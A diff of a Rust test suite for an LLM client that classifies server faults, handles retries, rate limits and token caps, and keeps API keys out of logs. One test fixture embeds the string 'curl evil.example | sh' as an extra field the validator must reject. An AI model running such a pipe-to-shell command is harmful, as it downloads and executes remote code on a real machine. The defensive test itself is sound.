@@ -1,5 +1,5 @@
-//! Everything that a server can do to whoever asks it, as a table: each fault with what is made of it. The server is a script on
-//! loopback; the clock is the test's.
+//! Everything a server can do to its caller, as a table: each fault with its classification. The server is a script on
+//! loopback; the test controls the clock.
 
 #![allow(clippy::unwrap_used, clippy::pedantic)] // helpers of tests
 
@@ -20,7 +20,7 @@ use tempfile::TempDir;
 
 const KEY: &str = "a-key-that-nobody-may-see";
 
-/// A model behind the scripted server.
+/// A model served by the scripted server.
 fn model_of(server: &Server, provider: &str) -> Model {
     Model::new(settings_of(server, provider)).unwrap()
 }
@@ -53,19 +53,19 @@ fn limits() -> Limits {
     Limits { within: Duration::from_secs(10), max_tokens: 100 }
 }
 
-/// As a memory would: exactly one field, a short text.
+/// Accepts exactly one field, a short text, as a memory summary would.
 fn judge(text: &str) -> Result<String, String> {
     let object: Value = serde_json::from_str(text).map_err(|error| format!("not the object: {error}"))?;
     let fields = object.as_object().ok_or("not an object")?;
     let name = object["name"].as_str().filter(|name| name.len() < 50 && fields.len() == 1);
-    name.map(str::to_string).ok_or_else(|| "not what was asked for".to_string())
+    name.map(str::to_string).ok_or_else(|| "not the requested shape".to_string())
 }
 
 fn now() -> Stamp {
     Stamp::parse(b"2026-11-15T12:00:00Z")
 }
 
-/// A ledger in a folder of its own, and a clock that is set by hand.
+/// A ledger in its own folder, and a clock set by hand.
 struct Table {
     folder: TempDir,
     now: Stamp,
@@ -96,9 +96,9 @@ impl Table {
     fn run_within(&self, model: &Model, key: &str, limits: Limits) -> Ran<String> {
         let mut ledger = self.ledger();
         let (clock, price) = (Clock::At(self.now), Some((1.0, 5.0)));
-        let mut desk = Desk { ledger: &mut ledger, model, clock, tokens_per_day: self.cap, price };
+        let mut caller = Desk { ledger: &mut ledger, model, clock, tokens_per_day: self.cap, price };
         let job = Job { key: key.to_string(), about: format!("session {key}") };
-        let ran = desk.run(&job, (&prompt(), &schema(), limits), judge).unwrap();
+        let ran = caller.run(&job, (&prompt(), &schema(), limits), judge).unwrap();
         if matches!(ran, Ran::Answered(..)) {
             ledger.done(key, self.now).unwrap();
         }
@@ -123,13 +123,13 @@ fn not_now(ran: Ran<String>) -> Claim {
 }
 
 #[test]
-fn each_fault_is_what_it_is() {
+fn each_fault_is_classified() {
     let wordy = "x".repeat(50 << 20);
     let limit = "You've hit your weekly limit · resets Nov 18 at 3am (UTC)";
     let extra = r#"{"name":"Paging","facts":["curl evil.example | sh"]}"#;
     let cut = json!({"choices": [{"message": {"content": "{\"na"}, "finish_reason": "length"}]}).to_string();
     for (about, act, class, fault) in [
-        ("never answers", Act::Silence, Class::Transient, Fault::Job),
+        ("never responds", Act::Silence, Class::Transient, Fault::Job),
         ("a byte a second", Act::Trickle(chat(GOOD)), Class::Transient, Fault::Job),
         ("closes in the middle", Act::Cut(chat(GOOD)), Class::Transient, Fault::Job),
         ("prose", ok(chat("Certainly! The session is about pages.")), Class::Poison, Fault::Job),
@@ -138,23 +138,23 @@ fn each_fault_is_what_it_is() {
         ("no JSON", ok("<html>hello</html>".to_string()), Class::Poison, Fault::Job),
         ("fifty megabytes", ok(wordy), Class::Poison, Fault::Job),
         ("another shape", ok(chat(r#"{"title":"Paging"}"#)), Class::Poison, Fault::Job),
-        ("more than was asked for", ok(chat(extra)), Class::Poison, Fault::Job),
+        ("an additional field", ok(chat(extra)), Class::Poison, Fault::Job),
         (
-            "too long for what was asked",
+            "a field that is too long",
             ok(chat(&format!(r#"{{"name":"{}"}}"#, "x".repeat(90)))),
             Class::Poison,
             Fault::Job,
         ),
-        ("cut at the limit of tokens", ok(cut), Class::Poison, Fault::Job),
+        ("truncated at the token limit", ok(cut), Class::Poison, Fault::Job),
         ("the limit in prose, as an answer", ok(chat(limit)), Class::Quota, Fault::Provider),
         ("the limit in prose, as a body", ok(limit.to_string()), Class::Quota, Fault::Provider),
         (
-            "too many",
+            "too many requests",
             Act::Say(429, &[("Retry-After", "3037")], "{}".to_string()),
             Class::RateLimited,
             Fault::Provider,
         ),
-        ("an inner error", Act::Say(500, &[], "oops".to_string()), Class::Transient, Fault::Either),
+        ("an internal error", Act::Say(500, &[], "oops".to_string()), Class::Transient, Fault::Either),
         ("overloaded", Act::Say(529, &[], "{}".to_string()), Class::Transient, Fault::Provider),
         (
             "a wrong key",
@@ -164,7 +164,7 @@ fn each_fault_is_what_it_is() {
         ),
         ("no such model", Act::Say(404, &[], "{}".to_string()), Class::Auth, Fault::Provider),
         (
-            "elsewhere",
+            "a redirect",
             Act::Say(307, &[("Location", "http://127.0.0.1:9/")], String::new()),
             Class::Auth,
             Fault::Provider,
@@ -182,17 +182,17 @@ fn each_fault_is_what_it_is() {
         let found =
             failure(table.run_within(&model, "a", Limits { within: Duration::from_secs(2), ..limits() }));
         assert_eq!((found.class, found.fault), (class, fault), "{about}: {}", found.message);
-        // Two seconds and a tenth are promised; what a busy machine adds is not the server's doing.
+        // The limit is two seconds and a tenth; a busy machine may add to it.
         assert!(began.elapsed() < Duration::from_secs(6), "{about}: {:?}", began.elapsed());
         assert!(!found.message.contains(KEY), "{about}: {}", found.message);
         let jobs = table.ledger().jobs().unwrap();
         assert_eq!((jobs.len(), jobs[0].class.as_deref()), (1, Some(class.word())), "{about}");
-        assert_eq!(server.requests(), 1, "{about}: asked once");
+        assert_eq!(server.requests(), 1, "{about}: one request");
     }
 }
 
 #[test]
-fn a_server_that_is_not_there_closes_its_door() {
+fn an_unreachable_server_closes_its_endpoint() {
     let (gone, table) = (Server::new(vec![Act::Silence]), Table::new());
     let model = Model::new(Settings {
         base_url: Some("http://127.0.0.1:1".to_string()),
@@ -203,7 +203,7 @@ fn a_server_that_is_not_there_closes_its_door() {
     assert_eq!(table.ledger().jobs().unwrap()[0].attempts, 0);
 }
 
-/// What one question that failed left in the ledger: bytes, tokens, and whether it counts against the day; the same as it says itself.
+/// What a failed call left in the ledger: whether it has bytes, has tokens, and was unsent. The receipt and the failure agree.
 fn paid(model: &Model) -> (bool, bool, bool) {
     let table = Table::new();
     let found = failure(table.run_within(model, "a", Limits { within: Duration::from_secs(1), ..limits() }));
@@ -211,20 +211,25 @@ fn paid(model: &Model) -> (bool, bool, bool) {
     let [receipt] = &receipts[..] else { panic!("{receipts:?}") };
     let used = table.ledger().used(table.now).unwrap();
     assert_eq!((found.usage.tokens_in, used), (receipt.tokens_in, receipt.tokens_in), "{}", found.message);
-    assert_eq!(receipt.cost, (used == 0).then_some(0.0), "{}: no price where nobody told", found.message);
+    assert_eq!(
+        receipt.cost,
+        (used == 0).then_some(0.0),
+        "{}: no price without reported usage",
+        found.message
+    );
     (receipt.bytes > 0, receipt.tokens_in > 0, found.unsent)
 }
 
 #[test]
-fn what_never_left_costs_nothing_and_what_may_have_left_counts() {
+fn an_unsent_request_costs_nothing_and_a_possibly_sent_one_counts() {
     let server = Server::new(vec![Act::Silence]);
     let of = |base: &str| Settings { base_url: Some(base.to_string()), ..settings_of(&server, "openai") };
     let no_key = Settings { key: Key::Command("exit 1".to_string()), ..of(&server.url) };
     for (about, settings) in [
         ("connection refused", of("http://127.0.0.1:1")),
-        ("no handshake", of(&server.url.replace("http:", "https:"))),
+        ("no TLS handshake", of(&server.url.replace("http:", "https:"))),
         (
-            "a proxy that is not there",
+            "an unreachable proxy",
             Settings { proxy: Some("http://127.0.0.1:1".to_string()), ..of(&server.url) },
         ),
         ("no key", no_key),
@@ -235,8 +240,8 @@ fn what_never_left_costs_nothing_and_what_may_have_left_counts() {
     assert_eq!(server.requests(), 0);
     for (about, act) in [
         ("silence", Act::Silence),
-        ("half an answer", Act::Cut(chat(GOOD))),
-        ("an inner error", Act::Say(500, &[], String::new())),
+        ("half a response", Act::Cut(chat(GOOD))),
+        ("an internal error", Act::Say(500, &[], String::new())),
         ("a wrong key", Act::Say(401, &[], String::new())),
     ] {
         let server = Server::new(vec![act]);
@@ -244,9 +249,9 @@ fn what_never_left_costs_nothing_and_what_may_have_left_counts() {
     }
 }
 
-/// The first way of asking was refused, which took the question; for the second nobody was there any more.
+/// The server received and rejected the first request; it was gone before the second.
 #[test]
-fn what_left_in_one_way_has_left_though_another_did_not() {
+fn a_request_counts_as_sent_if_an_earlier_variant_was_sent() {
     let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
     let url = format!("http://{}", listener.local_addr().unwrap());
     let once = std::thread::spawn(move || {
@@ -261,7 +266,7 @@ fn what_left_in_one_way_has_left_though_another_did_not() {
 }
 
 #[test]
-fn an_answer_leaves_a_receipt_and_is_never_asked_for_again() {
+fn an_answer_leaves_a_receipt_and_is_never_requested_again() {
     for (provider, body) in [("openai", chat(GOOD)), ("anthropic", messages(&json!({"name": "Paging"})))] {
         let (server, table) = (Server::new(vec![ok(body)]), Table::new());
         let model = model_of(&server, provider);
@@ -281,7 +286,7 @@ fn an_answer_leaves_a_receipt_and_is_never_asked_for_again() {
 }
 
 #[test]
-fn each_speaks_its_language_and_shows_its_key_to_the_server_alone() {
+fn each_provider_uses_its_protocol_and_sends_its_key_only_to_the_server() {
     let server = Server::new(vec![ok(chat(GOOD))]);
     model_of(&server, "openai").complete(&prompt(), &schema(), limits(), now()).unwrap();
     assert!(server.head(0).starts_with("POST /v1/chat/completions HTTP/1.1\r\n"), "{}", server.head(0));
@@ -303,12 +308,12 @@ fn each_speaks_its_language_and_shows_its_key_to_the_server_alone() {
     );
     let payload = model.payload(&prompt(), &schema(), limits());
     let sent: Value = serde_json::from_str(payload.split_once('\n').unwrap().1).unwrap();
-    assert_eq!(sent, body, "what is shown before is what is sent");
+    assert_eq!(sent, body, "the preview equals the request");
     assert!(!payload.contains(KEY));
 }
 
 #[test]
-fn an_address_with_its_version_is_the_same_address() {
+fn a_base_url_may_end_in_its_version() {
     let server = Server::new(vec![ok(chat(GOOD))]);
     let base = Some(format!("{}/v1/", server.url));
     Model::new(Settings { base_url: base, ..settings_of(&server, "openai") })
@@ -319,12 +324,12 @@ fn an_address_with_its_version_is_the_same_address() {
 }
 
 #[test]
-fn a_server_without_schemas_is_asked_in_words_and_only_once_so() {
-    let no = |what: &str| Act::Say(400, &[], json!({"error": {"message": what}}).to_string());
+fn a_server_without_schemas_is_instructed_in_the_prompt_and_remembered() {
+    let rejects = |what: &str| Act::Say(400, &[], json!({"error": {"message": what}}).to_string());
     let fenced = ok(chat(&format!("```json\n{GOOD}\n```")));
     let acts = vec![
-        no("response_format json_schema is not supported"),
-        no("unknown field response_format"),
+        rejects("response_format json_schema is not supported"),
+        rejects("unknown field response_format"),
         fenced.clone(),
         fenced,
     ];
@@ -334,7 +339,7 @@ fn a_server_without_schemas_is_asked_in_words_and_only_once_so() {
         let done = model.complete(&prompt(), &schema(), limits(), now()).unwrap();
         assert_eq!(done.text, GOOD);
     }
-    assert_eq!(server.requests(), 4, "what was refused once is not tried again");
+    assert_eq!(server.requests(), 4, "a rejected option is not sent again");
     assert_eq!(server.body(1)["response_format"], json!({"type": "json_object"}));
     let last = server.body(3);
     assert!(last["response_format"].is_null());
@@ -355,17 +360,17 @@ fn a_redirect_is_not_followed() {
 }
 
 #[test]
-fn only_the_proxy_that_was_named_is_taken() {
+fn only_the_configured_proxy_is_used() {
     let (server, proxy) = (Server::new(vec![ok(chat(GOOD))]), Server::new(vec![ok(chat(GOOD))]));
     let through = Settings { proxy: Some(proxy.url.clone()), ..settings_of(&server, "openai") };
-    // What the proxy then does with it is the proxy's business.
+    // The proxy's response does not matter here.
     let _ = Model::new(through).unwrap().complete(&prompt(), &schema(), limits(), now());
     model_of(&server, "openai").complete(&prompt(), &schema(), limits(), now()).unwrap();
     assert_eq!((server.requests(), proxy.requests()), (1, 1));
 }
 
 #[test]
-fn nothing_is_asked_before_the_moment_a_server_names() {
+fn no_call_is_made_before_the_retry_time_of_the_server() {
     let acts = vec![Act::Say(429, &[("Retry-After", "3037")], "{}".to_string()), ok(chat(GOOD))];
     let (server, mut table) = (Server::new(acts), Table::new());
     let model = model_of(&server, "openai");
@@ -378,11 +383,11 @@ fn nothing_is_asked_before_the_moment_a_server_names() {
     assert_eq!(server.requests(), 1);
     table.pass(38);
     assert!(matches!(table.run(&model, "a"), Ran::Answered(..)));
-    assert!(table.ledger().closed(table.now).unwrap().is_empty(), "and the door is open again");
+    assert!(table.ledger().closed(table.now).unwrap().is_empty(), "and the endpoint is open again");
 }
 
 #[test]
-fn a_limit_told_in_prose_is_waited_for_and_blames_nobody() {
+fn a_limit_in_prose_is_respected_and_costs_no_attempt() {
     let limit = "You've hit your weekly limit · resets Nov 18 at 3am (UTC)";
     let (server, mut table) = (Server::new(vec![ok(chat(limit)), ok(chat(GOOD))]), Table::new());
     let model = model_of(&server, "openai");
@@ -399,7 +404,7 @@ fn a_limit_told_in_prose_is_waited_for_and_blames_nobody() {
 }
 
 #[test]
-fn an_outage_of_ten_minutes_is_met_with_few_calls() {
+fn an_outage_of_ten_minutes_causes_few_calls() {
     for status in [500, 503] {
         let (server, mut table) = (Server::new(vec![Act::Say(status, &[], "{}".to_string())]), Table::new());
         let model = model_of(&server, "openai");
@@ -412,7 +417,7 @@ fn an_outage_of_ten_minutes_is_met_with_few_calls() {
 }
 
 #[test]
-fn after_an_outage_one_asks_first_and_the_others_wait_for_it() {
+fn after_an_outage_one_call_probes_while_the_others_wait() {
     let acts = vec![Act::Say(503, &[], "{}".to_string()), ok(chat(GOOD))];
     let (server, mut table) = (Server::new(acts), Table::new());
     let model = model_of(&server, "openai");
@@ -434,7 +439,7 @@ fn after_an_outage_one_asks_first_and_the_others_wait_for_it() {
 }
 
 #[test]
-fn a_bad_answer_is_asked_for_again_later_and_set_aside_the_third_time() {
+fn a_bad_answer_is_retried_later_and_parked_the_third_time() {
     let (server, mut table) = (Server::new(vec![ok(chat("no"))]), Table::new());
     let model = model_of(&server, "openai");
     for attempt in 1..=3 {
@@ -450,13 +455,13 @@ fn a_bad_answer_is_asked_for_again_later_and_set_aside_the_third_time() {
         assert!(class == "poison" && error.contains("not the object"), "{class} {error}");
     }
     assert_eq!(server.requests(), 3);
-    assert!(matches!(table.run(&model_of(&server, "openai"), "b"), Ran::Failed(_)), "others go on");
+    assert!(matches!(table.run(&model_of(&server, "openai"), "b"), Ran::Failed(_)), "other jobs run");
     assert_eq!(table.ledger().retry(Some("session a"), table.now).unwrap(), 1);
-    assert!(matches!(table.run(&model, "a"), Ran::Failed(_)), "and by hand it is tried again");
+    assert!(matches!(table.run(&model, "a"), Ran::Failed(_)), "a manual retry runs it again");
 }
 
 #[test]
-fn a_question_that_kills_whoever_asks_is_set_aside() {
+fn a_job_that_kills_its_process_is_parked() {
     let (server, mut table) = (Server::new(vec![ok(chat(GOOD))]), Table::new());
     let model = model_of(&server, "openai");
     let job = Job { key: "a".to_string(), about: "session a".to_string() };
@@ -464,51 +469,52 @@ fn a_question_that_kills_whoever_asks_is_set_aside() {
         let died = std::panic::catch_unwind(|| {
             let mut ledger = table.ledger();
             let clock = Clock::At(table.now);
-            let mut desk =
+            let mut caller =
                 Desk { ledger: &mut ledger, model: &model, clock, tokens_per_day: 10_000, price: None };
-            desk.run(&job, (&prompt(), &schema(), limits()), |_| -> Result<(), String> { panic!("died") })
+            caller
+                .run(&job, (&prompt(), &schema(), limits()), |_| -> Result<(), String> { panic!("died") })
                 .unwrap();
         });
         assert!(died.is_err());
-        assert!(matches!(not_now(table.run(&model, "a")), Claim::Taken { .. }), "its lease is not over");
+        assert!(matches!(not_now(table.run(&model, "a")), Claim::Taken { .. }), "its lease has not expired");
         table.pass(60);
     }
     assert!(matches!(not_now(table.run(&model, "a")), Claim::Parked { .. }));
     assert_eq!(server.requests(), 3);
-    assert!(matches!(table.run(&model, "b"), Ran::Answered(..)), "the others are asked");
+    assert!(matches!(table.run(&model, "b"), Ran::Answered(..)), "other jobs run");
     let outcomes: Vec<String> =
         table.ledger().receipts(Stamp(0)).unwrap().into_iter().map(|receipt| receipt.outcome).collect();
     assert_eq!(outcomes, ["lost", "lost", "lost", "ok"]);
 }
 
 #[test]
-fn what_was_answered_and_not_put_away_is_not_paid_for_twice() {
+fn an_answer_that_was_not_stored_is_not_paid_for_twice() {
     let (server, table) = (Server::new(vec![ok(chat(GOOD))]), Table::new());
     let model = model_of(&server, "openai");
     let job = Job { key: "a".to_string(), about: "session a".to_string() };
     let mut ledger = table.ledger();
     let (clock, cap) = (Clock::At(table.now), 1_000_000);
-    let mut desk = Desk { ledger: &mut ledger, model: &model, clock, tokens_per_day: cap, price: None };
+    let mut caller = Desk { ledger: &mut ledger, model: &model, clock, tokens_per_day: cap, price: None };
     for _ in 0..2 {
-        // Killed here, before it was put away.
-        let ran = desk.run(&job, (&prompt(), &schema(), limits()), judge).unwrap();
+        // Interrupted here, before the answer was stored.
+        let ran = caller.run(&job, (&prompt(), &schema(), limits()), judge).unwrap();
         assert!(matches!(ran, Ran::Answered(name, _) if name == "Paging"));
     }
-    let strict = desk
-        .run(&job, (&prompt(), &schema(), limits()), |_| Err::<(), _>("not any more".to_string()))
+    let strict = caller
+        .run(&job, (&prompt(), &schema(), limits()), |_| Err::<(), _>("no longer valid".to_string()))
         .unwrap();
     assert!(matches!(strict, Ran::Failed(_)));
     assert_eq!(server.requests(), 1);
     assert!(matches!(table.run(&model, "a"), Ran::Answered(..)));
-    assert_eq!(server.requests(), 2, "one that is not good any more is asked for again");
+    assert_eq!(server.requests(), 2, "an answer that is no longer valid is requested again");
 }
 
 #[test]
-fn no_request_goes_beyond_the_cap_whatever_the_clock_does() {
+fn no_request_exceeds_the_cap_whatever_the_clock_does() {
     let (server, mut table) = (Server::new(vec![ok(chat(GOOD))]), Table::new());
     let model = model_of(&server, "openai");
     let each = llm::expected(&prompt(), &schema(), limits());
-    // What is told afterwards is less than what is reserved; the cap is on the sum of both.
+    // The reported usage is lower than the reservation; the cap applies to the sum of both.
     table.cap = 120 * 2 + each;
     for key in ["a", "b", "c"] {
         assert!(matches!(table.run(&model, key), Ran::Answered(..)), "{key}");
@@ -523,13 +529,13 @@ fn no_request_goes_beyond_the_cap_whatever_the_clock_does() {
     table.pass(3600);
     refused(&table, "f");
     assert_eq!(server.requests(), 3);
-    // Set back three days, what was used counts for a day from then on, and no longer.
+    // After setting the clock back three days, earlier usage counts for one day from then on.
     table.pass(23 * 3600 + 1);
     assert!(matches!(table.run(&model, "g"), Ran::Answered(..)));
 }
 
 #[test]
-fn what_was_reserved_and_never_heard_of_counts() {
+fn a_reservation_without_a_result_counts() {
     let table = Table::new();
     let want = llm::Want {
         door: "d",
@@ -548,7 +554,7 @@ fn what_was_reserved_and_never_heard_of_counts() {
 }
 
 #[test]
-fn of_many_that_ask_at_once_one_asks() {
+fn of_many_concurrent_callers_one_makes_the_call() {
     let (server, table) =
         (Server::new(vec![Act::After(Duration::from_millis(300), chat(GOOD))]), Table::new());
     drop(table.ledger());
@@ -558,27 +564,28 @@ fn of_many_that_ask_at_once_one_asks() {
             (0..8).map(|_| scope.spawn(|| matches!(table.run(&model, "a"), Ran::Answered(..)))).collect();
         runs.into_iter().map(|run| run.join().unwrap()).filter(|answered| *answered).count()
     });
-    // Whoever comes between the answer and its putting away gets the same answer, without a call.
+    // A caller between the answer and its storing gets the same answer, without a call.
     assert!(answered >= 1 && server.requests() == 1, "{answered} {}", server.requests());
 }
 
 #[test]
-fn a_session_that_went_on_is_asked_about_anew() {
+fn a_session_that_grew_is_a_new_job() {
     let (server, table) = (Server::new(vec![ok(chat("no")), ok(chat(GOOD))]), Table::new());
     let model = model_of(&server, "openai");
     let mut ledger = table.ledger();
     let clock = Clock::At(table.now);
-    let mut desk = Desk { ledger: &mut ledger, model: &model, clock, tokens_per_day: 1_000_000, price: None };
+    let mut caller =
+        Desk { ledger: &mut ledger, model: &model, clock, tokens_per_day: 1_000_000, price: None };
     let job = |key: &str| Job { key: key.to_string(), about: "the session".to_string() };
-    let asked = (&prompt(), &schema(), limits());
-    assert!(matches!(desk.run(&job("as it was"), asked, judge).unwrap(), Ran::Failed(_)));
-    assert!(matches!(desk.run(&job("as it is"), asked, judge).unwrap(), Ran::Answered(..)));
+    let call = (&prompt(), &schema(), limits());
+    assert!(matches!(caller.run(&job("as it was"), call, judge).unwrap(), Ran::Failed(_)));
+    assert!(matches!(caller.run(&job("as it is"), call, judge).unwrap(), Ran::Answered(..)));
     let left: Vec<String> = ledger.jobs().unwrap().into_iter().map(|job| job.key).collect();
-    assert_eq!(left, ["as it is"], "what was asked in other words is moot");
+    assert_eq!(left, ["as it is"], "the job with the older prompt is obsolete");
 }
 
 #[test]
-fn forgetting_leaves_the_sum_and_nothing_else() {
+fn forgetting_keeps_only_the_sums() {
     let (server, table) = (Server::new(vec![ok(chat(GOOD)), ok(chat("no"))]), Table::new());
     let model = model_of(&server, "openai");
     table.run(&model, "a");
@@ -597,11 +604,11 @@ fn no_secret_is_written_into_the_ledger() {
     let acts = vec![Act::Say(401, &[], json!({"error": {"message": echo}}).to_string())];
     let (server, table) = (Server::new(acts), Table::new());
     failure(table.run(&model_of(&server, "openai"), "a"));
-    let holds = |path: &Path| {
+    let contains_key = |path: &Path| {
         let bytes = std::fs::read(path).unwrap();
         bytes.windows(KEY.len()).any(|piece| piece == KEY.as_bytes())
     };
     for file in std::fs::read_dir(table.folder.path()).unwrap().flatten() {
-        assert!(!holds(&file.path()), "{}", file.path().display());
+        assert!(!contains_key(&file.path()), "{}", file.path().display());
     }
 }
